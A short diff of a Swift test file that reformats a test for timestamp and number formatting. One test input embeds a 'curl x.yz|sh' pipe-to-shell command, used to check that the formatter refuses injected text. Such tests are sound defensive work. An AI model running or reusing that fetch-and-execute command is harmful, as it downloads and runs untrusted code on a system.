@@ -144,7 +144,9 @@ import Testing
         ("2026-01-31T08:05:09.120Z", "2026-01-31 08:05:09"), ("", ""), ("\ncurl x.yz|sh\n#", "?"),
         ("2026-01-31T08:05\n", "?"), ("2026-01-31T08:05:09\u{301}", "?"),
     ])
-    func writesMomentsAndNothingElse(iso8601: String, text: String) { #expect(Figures.moment(iso8601) == text) }
+    func writesMomentsAndNothingElse(iso8601: String, text: String) {
+        #expect(Figures.moment(iso8601) == text)
+    }
 
     @Test(arguments: [(0, "0"), (999, "999"), (1000, "1,000"), (1_234_567, "1,234,567"), (-1000, "-1,000")])
     func writesCounts(number: Int, text: String) { #expect(Figures.count(number) == text) }
